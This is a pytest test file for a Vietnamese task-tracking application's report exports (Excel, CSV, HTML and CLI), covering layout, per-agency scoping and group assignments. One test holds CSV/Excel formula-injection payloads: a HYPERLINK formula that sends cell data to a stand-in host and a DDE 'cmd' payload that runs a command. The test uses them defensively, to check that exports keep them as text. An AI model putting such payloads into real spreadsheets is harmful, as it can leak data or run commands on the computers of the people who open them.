import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from tests.fixtures.factories import PASSWORD
from tracker.core.dates import today_vn
from tracker.tasks import operations as ops
from tracker.users.models import Role


@pytest.fixture()
def data(session, make_agency, make_task, make_user, make_document):  # noqa: ANN001, ANN201
    today = today_vn()
    soyte, sotc = make_agency("Sở Y tế"), make_agency("Sở Tài chính")
    document = make_document("244/KH-UBND")
    late = make_task(lead=soyte, support=(sotc,), due=today - dt.timedelta(days=5), document=document,
                     description="Báo cáo kết quả tiêm chủng", item_ref="IV.2")
    done = make_task(lead=sotc, due=today - dt.timedelta(days=2), document=document, description="Công khai ngân sách")
    ops.report_completion(session, done, ops.Actor.system(), today - dt.timedelta(days=3), "Đã công khai trên cổng")
    other = make_task(lead=sotc, due=today + dt.timedelta(days=40), description="Việc khác")
    people = {"office": make_user(Role.OFFICE), "liaison": make_user(Role.AGENCY, soyte)}
    session.commit()
    return {"late": late, "done": done, "other": other, "today": today, **people}


def test_excel_report_cells_and_print_layout(client, session, data):
    client.post("/login", data={"email": data["office"].email, "password": PASSWORD})
    first = (data["today"] - dt.timedelta(days=30)).strftime("%d/%m/%Y")
    last = (data["today"] + dt.timedelta(days=10)).strftime("%d/%m/%Y")
    response = client.get("/reports/", query_string={"format": "xlsx", "from": first, "to": last})
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(response.data))
    sheet = book["Biểu tổng hợp"]
    assert (sheet["A1"].value, sheet["A2"].value) == (None, "VĂN PHÒNG UBND")  # no office in this directory
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in [c.value for c in sheet[1]]
    assert sheet["A4"].value == "BIỂU TỔNG HỢP NHIỆM VỤ"
    assert sheet["A6"].value == f"(Tính đến ngày {data['today']:%d/%m/%Y})"
    assert [c.value for c in sheet[8]] == ["TT", "Mã", "Nội dung nhiệm vụ", "Đơn vị chủ trì", "Đơn vị phối hợp",
                                           "Thời hạn", "Kết quả/tiến độ", "Ghi chú"]
    table = [r for r in sheet.iter_rows(min_row=9) if isinstance(r[0].value, int)]
    rows = {r[2].value: [c.value for c in r] for r in table}
    assert set(rows) == {"Báo cáo kết quả tiêm chủng", "Công khai ngân sách"}  # "Việc khác" is outside the period
    late = rows["Báo cáo kết quả tiêm chủng"]
    assert late[1] == data["late"].code and late[3:5] == ["Sở Y tế", "Sở Tài chính"]
    assert late[5].date() == data["late"].due_date  # a real date cell, shown dd/mm/yyyy
    assert next(r for r in table if r[2].value == "Công khai ngân sách")[5].number_format == "DD/MM/YYYY"
    assert late[6].startswith("Quá hạn, chưa hoàn thành") and late[7] == "244/KH-UBND, IV.2"
    assert rows["Công khai ngân sách"][6].startswith("Hoàn thành đúng hạn ngày")
    below = [c.value for r in sheet.iter_rows(min_row=9 + len(table)) for c in r if c.value]
    assert below[:2] == ["NGƯỜI LẬP BIỂU", "THỦ TRƯỞNG ĐƠN VỊ"]
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.print_title_rows == "$8:$8"
    figures = {r[0].value: [c.value for c in r] for r in book["Số liệu"].iter_rows(min_row=9) if r[0].value}
    assert figures["Sở Tài chính"][1:7] == [1, 1, 0, 0, 0, 100]
    assert figures["Sở Y tế"][1:7] == [1, 0, 0, 0, 1, None]  # nothing finished yet: no rate
    assert figures["Tổng cộng"][1:7] == [2, 1, 0, 0, 1, 100]


def test_csv_and_printable_page_and_agency_scope(client, session, data):
    client.post("/login", data={"email": data["liaison"].email, "password": PASSWORD})
    csv_text = client.get("/reports/?format=csv&document=244%2FKH-UBND").data.decode("utf-8-sig")
    assert "Báo cáo kết quả tiêm chủng" in csv_text and "Công khai ngân sách" not in csv_text  # only its own
    page = client.get("/reports/?format=html&document=244%2FKH-UBND").get_data(as_text=True)
    assert "BIỂU TỔNG HỢP NHIỆM VỤ" in page and "theo văn bản số 244/KH-UBND" in page
    bad = client.get("/reports/?format=html&from=31/02/2026")
    assert bad.status_code == 400 and "Ngày không hợp lệ" in bad.get_data(as_text=True)


def test_cli_report(runner, session, data, tmp_path):
    out = tmp_path / "r.csv"
    result = runner.invoke(args=["reports", "tasks", "--format", "csv", "--out", str(out), "--agency", "Sở Tài chính"])
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8-sig")
    assert "Công khai ngân sách" in text and "Việc khác" in text and "tiêm chủng" in text  # lead or coordinator
    bad = runner.invoke(args=["reports", "tasks", "--out", str(out), "--agency", "Sở Ma"])
    assert bad.exit_code == 1 and "Sở Ma" in bad.output


@pytest.mark.parametrize("wording", ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1,1)"])
def test_a_wording_that_looks_like_a_formula_stays_text(client, session, make_agency, make_task, make_user, wording):
    lead = make_agency("Sở Y tế")
    make_task(lead=lead, due=today_vn(), description=wording)
    office = make_user(Role.OFFICE)
    session.commit()
    client.post("/login", data={"email": office.email, "password": PASSWORD})
    csv_text = client.get("/reports/?format=csv").data.decode("utf-8-sig")
    assert f",'{wording[:5]}" in csv_text.replace('"', "") or f"'{wording[:5]}" in csv_text
    assert "," + wording[:5] not in csv_text.replace('"', "")
    sheet = load_workbook(io.BytesIO(client.get("/reports/?format=xlsx").data))["Biểu tổng hợp"]
    cell = next(r[2] for r in sheet.iter_rows(min_row=9) if str(r[2].value).startswith(wording[:5]))
    assert cell.data_type == "s"  # text, not a formula Excel would run


@pytest.mark.parametrize("province, superior", [("Quảng Ninh", "UBND TỈNH QUẢNG NINH"),
                                                ("Hồ Chí Minh", "UBND THÀNH PHỐ HỒ CHÍ MINH")])
def test_the_form_is_headed_by_the_offices_own_province(session, province, superior):
    from tracker.agencies.provinces import import_province
    from tracker.reports.tables import report_heading

    import_province(session, province)
    assert report_heading(session) == (superior, "VĂN PHÒNG")


def test_a_group_assignment_is_one_row_of_the_form_with_its_members_progress(client, session, make_agency,
                                                                              make_task, make_user, make_document):
    from tracker.agencies.models import AgencyKind
    from tracker.tasks.models import GroupAssignment

    today = today_vn()
    document = make_document("730/KH-UBND")
    assignment = GroupAssignment(document=document, group_name="UBND các xã, phường")
    communes = [make_agency(f"UBND xã Mẫu {n:02d}", kind=AgencyKind.COMMUNE) for n in range(12)]
    members = [make_task(lead=c, document=document, description="Nâng cao chỉ số PAPI", assignment=assignment,
                         due=today - dt.timedelta(days=1)) for c in communes]
    ops.report_completion(session, members[0], ops.Actor.system(), today - dt.timedelta(days=2))
    make_task(lead=make_agency("Sở Nội vụ"), document=document, description="Tổng hợp kết quả", due=today)
    office, liaison = make_user(Role.OFFICE), make_user(Role.AGENCY, communes[5])
    session.commit()
    client.post("/login", data={"email": office.email, "password": PASSWORD})
    sheet = load_workbook(io.BytesIO(client.get("/reports/?format=xlsx&document=730%2FKH-UBND").data))["Biểu tổng hợp"]
    table = [[c.value for c in r] for r in sheet.iter_rows(min_row=9) if isinstance(r[0].value, int)]
    assert [r[2] for r in table] == ["Nâng cao chỉ số PAPI", "Tổng hợp kết quả"]
    group = table[0]
    assert group[1] == f"{members[0].code} … {members[-1].code}" and group[3] == "UBND các xã, phường (12 cơ quan)"
    assert group[5].date() == today - dt.timedelta(days=1)  # one deadline for all members: a real date cell
    assert group[6].startswith("1/12 cơ quan đã hoàn thành; quá hạn (11): UBND xã Mẫu 01, UBND xã Mẫu 02")
    assert group[6].endswith("và 1 cơ quan khác") and group[7] == "730/KH-UBND"
    client.post("/logout")
    client.post("/login", data={"email": liaison.email, "password": PASSWORD})
    own = client.get("/reports/?format=csv&document=730%2FKH-UBND").data.decode("utf-8-sig")
    assert members[5].code in own and "12 cơ quan" not in own and "UBND xã Mẫu 01" not in own  # its share only
